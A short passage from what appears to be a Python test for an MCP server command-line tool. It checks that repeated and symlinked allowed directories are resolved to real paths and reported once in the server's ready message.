    args += ["--allow-dir", str(link), "--allow-dir", str(other), "--allow-dir", str(other)]
    proc = run_cli(args, tenv, input="")
    assert proc.returncode == 0, report(proc, gateway)
    (ready,) = [line for line in proc.stderr.splitlines() if "MCP server ready" in line]
    real_out, real_other = os.path.realpath(outputs), os.path.realpath(other)
    assert ready.endswith(f"files only inside {real_out}, {real_other}"), ready
